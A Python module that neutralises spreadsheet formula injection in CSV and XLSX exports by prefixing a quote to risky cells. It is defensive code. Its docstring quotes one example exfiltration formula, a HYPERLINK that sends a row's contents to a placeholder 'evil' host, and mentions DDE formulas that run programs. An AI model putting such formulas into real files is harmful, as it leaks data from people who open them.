"""Cells that a spreadsheet would run as formulas, made inert before they are written.

Excel, WPS and LibreOffice treat a cell starting with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil/?"&A1, "点击")` leaks the row; DDE formulas run programs), and
tab or carriage return first can smuggle one past a naive check. `inert` puts a single
quote in front, which the spreadsheet shows as text and does not display. Use it on every
text cell of CSV and XLSX exports (ledger, directory, reports).
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def inert(value: object) -> object:
    """The value, safe as a spreadsheet cell; numbers and None pass unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def restored(value: str) -> str:
    """The text `inert` was given, for files the hub exported and reads back."""
    if value.startswith("'") and value[1:].startswith(TRIGGERS):
        return value[1:]
    return value
